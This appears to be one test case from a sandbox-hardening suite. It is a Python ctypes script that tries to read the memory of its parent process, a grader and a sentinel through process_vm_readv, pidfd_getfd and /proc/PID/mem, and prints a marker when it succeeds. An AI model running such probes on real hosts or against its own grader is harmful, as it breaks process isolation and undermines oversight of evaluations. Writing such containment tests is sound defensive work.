# id: own/15_read_the_parent
# class: host-read
# mode: stdio
# check: leak,marker
# expected-status: any
# tries: read the memory of the parent and of the grader: process_vm_readv, /proc/PID/mem, pidfd_getfd, kcmp
# attack succeeds when: memory is read, a descriptor is taken
import ctypes, os
L = ctypes.CDLL(None, use_errno=True)
class V(ctypes.Structure):
    _fields_ = [("p", ctypes.c_void_p), ("n", ctypes.c_size_t)]
here = ctypes.create_string_buffer(64)
for pid in (os.getppid(), @@GRADER_PID@@, @@SENTINEL_PID@@):
    a, b = V(ctypes.addressof(here), 64), V(0x400000, 64)
    if L.process_vm_readv(pid, ctypes.byref(a), 1, ctypes.byref(b), 1, 0) > 0:
        print("REACHED-@@TOKEN@@")
    fd = L.syscall(434, pid, 0)
    if fd >= 0 and L.syscall(438, fd, 1, 0) >= 0:
        print("REACHED-@@TOKEN@@")
    try:
        print(open(f"/proc/{pid}/maps").read()[:2000])
        open(f"/proc/{pid}/mem", "rb").read(1)
        print("REACHED-@@TOKEN@@")
    except Exception as e:
        print(type(e).__name__)
